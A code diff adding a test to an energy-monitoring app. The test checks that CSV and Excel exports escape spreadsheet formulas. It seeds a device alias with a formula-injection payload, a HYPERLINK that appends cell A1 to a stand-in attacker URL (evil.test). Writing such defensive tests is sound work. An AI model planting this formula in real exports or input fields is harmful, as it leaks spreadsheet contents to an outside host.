@@ -116,6 +116,35 @@ async def test_raw_readings_export_in_every_format_with_the_rows_of_the_store(
             assert got == expected, fmt
 
 
+FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Fridge")'
+
+
+async def test_exported_text_is_never_a_formula_and_numbers_stay_numbers(
+    client: httpx.AsyncClient, runtime: Runtime
+) -> None:
+    device_id = await asyncio.to_thread(
+        seed_device, runtime.app, "127.0.0.1:10998", plug(1000.0, 40.0), measured_at=T0, alias=FORMULA
+    )
+    await asyncio.to_thread(seed_polls, runtime.app, [
+        PollResult(device_id=device_id, measured_at=T0 + timedelta(minutes=15), snapshot=plug(1010.0, 41.0))
+    ])  # fmt: skip
+    await asyncio.to_thread(runtime.engine.catch_up_all)
+    device = {"device_id": str(device_id), "device_ip": "127.0.0.1:10998"}
+    fields = ["timestamp", "power_w", "energy_kwh"]
+    async with background(runtime, poll=False):
+        csv_status = await finished(client, runtime, await create(client, device, format="csv", fields=fields))
+        xlsx_status = await finished(client, runtime, await create(client, device, format="excel", fields=fields))
+        csv_file = (await client.get(csv_status["download_url"])).text
+        xlsx_file = (await client.get(xlsx_status["download_url"])).content
+    rows = list(csv.reader(io.StringIO(csv_file)))[1:]
+    assert [r[2] for r in rows] == ["'" + FORMULA] * 2
+    assert [(r[3], r[4]) for r in rows] == [("40.0", "1.0"), ("41.0", "1.01")]
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_file))
+    cells = [list(row) for row in book.worksheets[0].iter_rows()][1:]
+    assert [(r[2].value, r[2].data_type) for r in cells] == [(FORMULA, "s")] * 2
+    assert [(r[3].value, r[3].data_type) for r in cells] == [(40.0, "n"), (41.0, "n")]
+
+
 @pytest.mark.parametrize(("aggregation", "buckets"), [("hourly", 3), ("daily", 1)])
 async def test_hourly_and_daily_buckets_hold_exactly_the_energy_used_within_them(
     client: httpx.AsyncClient, runtime: Runtime, device: dict[str, Any], aggregation: str, buckets: int
